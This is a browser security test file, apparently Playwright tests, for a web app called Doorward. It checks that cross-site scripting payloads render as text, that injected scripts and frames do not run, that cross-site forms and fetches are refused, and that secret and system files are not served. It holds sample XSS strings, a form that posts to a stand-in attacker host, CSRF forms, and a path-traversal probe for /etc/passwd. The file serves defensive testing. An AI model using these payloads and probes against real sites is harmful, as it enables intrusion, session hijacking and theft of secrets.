// What an attacker would try in the browser: markup in names, injected scripts, frames, other sites.
import { createServer, type Server as Http } from 'node:http';
import { type AddressInfo } from 'node:net';
import { ADMIN, enter, expect, heading, open, row, test, tokenOf } from '../fixtures';

const PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  '<!--<script>',
  '{{7*7}}${7*7}',
];

test.beforeEach(async ({ page }) => {
  page.on('dialog', () => expect(true, 'no payload runs').toBe(false));
});

test('markup in names is text, on the server and in the browser', async ({ page, server }) => {
  for (const [n, displayName] of PAYLOADS.entries()) await server.add({ username: `payload-${n}`, displayName });
  await server.api('PATCH', '/settings', { name: '<b>Lab</b>', helpContact: '</title><img src=x>' });
  await enter(page);
  // As the server sends it, and as the browser draws it by itself.
  for (const isDrawnHere of [false, true]) {
    if (isDrawnHere) {
      await open(page, '/');
      await page.getByRole('link', { name: 'Users', exact: true }).click();
    } else {
      await open(page, '/settings/users');
    }
    for (const text of PAYLOADS) await expect(page.getByRole('link', { name: text, exact: true })).toBeVisible();
    await expect(page.locator('main img, main script, main svg[onload]')).toHaveCount(0);
  }
  await page.getByRole('link', { name: PAYLOADS[0], exact: true }).click();
  await expect(page.getByRole('dialog', { name: PAYLOADS[0] })).toBeVisible();
  await expect(page).toHaveTitle(`${PAYLOADS[0]} · Doorward`);
  await page.reload();
  await expect(page.getByRole('dialog', { name: PAYLOADS[0] })).toBeVisible();
  await expect(page).toHaveTitle(`${PAYLOADS[0]} · Doorward`);
  await open(page, '/');
  await expect(heading(page, '<b>Lab</b>')).toBeVisible();
});

test('markup in the name of a device and in a search is text', async ({ page, another, server }) => {
  const device = await another({ userAgent: '<img src=x onerror=alert(1)>' });
  await enter(device);
  await server.tryLogin('<img src=x onerror=alert(2)>', 'x');
  await enter(page);
  await open(page, '/settings/sessions');
  await expect(page.getByRole('rowheader')).toHaveCount(3);
  await open(page, `/settings/users?query=${encodeURIComponent(PAYLOADS[1])}`);
  await expect(page.getByRole('heading', { name: `Nobody matches “${PAYLOADS[1]}”` })).toBeVisible();
  await open(page, '/');
  await expect(page.locator('main img, main script')).toHaveCount(0);
});

// BRW-191
test('what is smuggled into the page does not run', async ({ page, watch }) => {
  watch.allow(/Content Security Policy|policy: /);
  await enter(page);
  await open(page, '/');
  await page.evaluate(() => {
    const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
    add('<img src="data:," onerror="window.ran = 1">');
    add('<iframe srcdoc="<script>parent.ran = 2</script>"></iframe>');
    add('<base href="https://evil.example/">');
    add('<a id="js" href="javascript:window.ran = 3">x</a>');
    document.querySelector<HTMLAnchorElement>('#js')!.click();
    const script = document.createElement('div');
    script.innerHTML = '<form id="out" action="https://evil.example/" method="post"></form>';
    document.body.append(script);
    document.querySelector<HTMLFormElement>('#out')!.submit();
  });
  expect(await page.evaluate(() => document.baseURI)).not.toContain('evil');
  expect(await page.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined();
  expect(await page.evaluate(() => location.pathname)).toBe('/');
});

test.describe('from another site', () => {
  let evil: Http;
  let site = '';
  let html = '';

  test.beforeAll(async () => {
    evil = createServer((_, response) => response.setHeader('content-type', 'text/html').end(html));
    await new Promise<void>((ready) => evil.listen(0, '127.0.0.1', ready));
    site = `http://localhost:${(evil.address() as AddressInfo).port}/`;
  });
  test.afterAll(() => evil.close());

  // BRW-189
  test('no page can be framed', async ({ page, server, watch }) => {
    watch.allow(404, /frame|ERR_BLOCKED_BY_RESPONSE|Refused to display|X-Frame-Options/i);
    await enter(page);
    const paths = ['/', '/login', '/logout', '/settings/users', '/setup', '/nowhere', '/api/v1/capabilities'];
    html = paths.map((path) => `<iframe src="${server.url}${path}"></iframe>`).join('');
    await page.goto(site);
    await expect.poll(() => page.frames().slice(1).map((frame) => frame.url())).toEqual(paths.map(() => 'chrome-error://chromewebdata/'));
  });

  // BRW-186
  test('no picture, no prefetch and no link changes anything', async ({ page, server, watch }) => {
    watch.allow(401, 404, 405, /ERR_|CORS|blocked/i);
    await enter(page);
    const paths = ['/logout', '/setup/skip', '/_call/sign_out', '/api/v1/auth/logout', '/auth/oidc/nowhere/login'];
    html = paths.map((path) => `<img src="${server.url}${path}"><link rel="prefetch" href="${server.url}${path}">`).join('');
    await page.goto(site);
    for (const path of paths) await page.goto(server.url + path).catch(() => null);
    await open(page, `${server.url}/settings/users`);
    await expect(row(page, ADMIN.displayName)).toBeVisible();
  });

  test('no form and no fetch does anything with the cookie', async ({ page, server, watch }) => {
    watch.allow(403, /CORS|ERR_FAILED|blocked/i);
    await enter(page);
    const forms = [['/logout', ''], ['/change-password', 'currentPassword=x'], ['/login', `username=${ADMIN.username}`]];
    for (const [action, fields] of forms) {
      const inputs = new URLSearchParams(fields);
      html = `<form method="post" action="${server.url}${action}">${[...inputs].map(([k, v]) => `<input name="${k}" value="${v}">`).join('')}</form><script>document.forms[0].submit()</script>`;
      const [answer] = await Promise.all([page.waitForResponse(server.url + action), page.goto(site).catch(() => null)]);
      expect(answer.status(), action).toBe(403);
    }
    html = '<p>nothing</p>';
    await page.goto(site);
    const read = await page.evaluate(async (address) => {
      const outcomes = [];
      for (const path of ['/api/v1/users', '/api/v1/capabilities', '/settings/users']) {
        outcomes.push(await fetch(address + path, { credentials: 'include' }).then(() => 'read', () => 'refused'));
      }
      return outcomes;
    }, server.url);
    expect(read).toEqual(['refused', 'refused', 'refused']);
    await open(page, `${server.url}/settings/users`);
    await expect(row(page, ADMIN.displayName)).toBeVisible();
  });
});

// BRW-186
test('opening an address changes nothing', async ({ page }) => {
  await enter(page);
  await open(page, '/');
  await tokenOf(page);
  for (const path of ['/logout', '/setup/skip', '/_call/sign_out', '/api/v1/auth/logout']) await page.request.get(path);
  await page.reload();
  await expect(heading(page, 'Doorward')).toBeVisible();
});

test('files that are none of anybody’s business are not there', async ({ page }) => {
  for (const path of ['/.git/HEAD', '/Cargo.toml', '/doorward.db', '/.doorward_jwt_secret', '/pkg/', '/pkg/..%2f..%2fetc/passwd', '/app.js.map']) {
    const answer = await page.request.get(path, { maxRedirects: 0 });
    expect([303, 404], path).toContain(answer.status());
    expect(await answer.text()).not.toMatch(/SQLite format|\[workspace\]|ref: refs/);
  }
});
